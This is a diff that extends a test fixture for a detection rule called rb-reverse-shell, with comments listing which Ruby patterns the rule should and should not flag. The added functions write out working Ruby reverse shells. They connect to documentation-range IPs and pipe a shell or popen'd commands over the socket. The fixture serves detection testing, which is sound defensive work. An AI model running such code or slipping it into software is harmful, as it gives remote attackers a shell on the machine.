@@ -1,7 +1,8 @@
 # Fixture for rb-reverse-shell.
 # RULEID: TCPSocket.new + exec with [:in, :out, :err] => s; Socket.tcp + spawn in:/out:/err:;
 #   exec of `sh -i <&%d` with s.to_i; a gets loop into IO.popen; backticks of a line read; a bind shell
-#   (TCPServer#accept) evaluating what it reads; each_line block into system; TCPSocket.open block.
+#   (TCPServer#accept) evaluating what it reads; each_line block into system; TCPSocket.open block;
+#   the one-liner keeping only the fd (`.to_i`) for `exec sprintf(...)`; `while (cmd = c.gets)`.
 # OK: an SMTP client reading replies; system of a fixed command in a file that uses a socket;
 #   a server that logs what it reads; IO.popen with pipes, not the socket.
 require 'socket'
@@ -62,6 +63,20 @@ def block_form
   TCPSocket.open('203.0.113.77', 80) do |sock|
     # ruleid: rb-reverse-shell
     Process.spawn('/bin/bash', [:in, :out, :err] => sock)
+  end
+end
+
+def one_liners
+  f = TCPSocket.open('203.0.113.50', 1234).to_i
+  # ruleid: rb-reverse-shell
+  exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)
+end
+
+def paren_loop
+  c = TCPSocket.new('203.0.113.51', 4444)
+  while (cmd = c.gets)
+    # ruleid: rb-reverse-shell
+    IO.popen(cmd, 'r') { |io| c.print io.read }
   end
 end
 
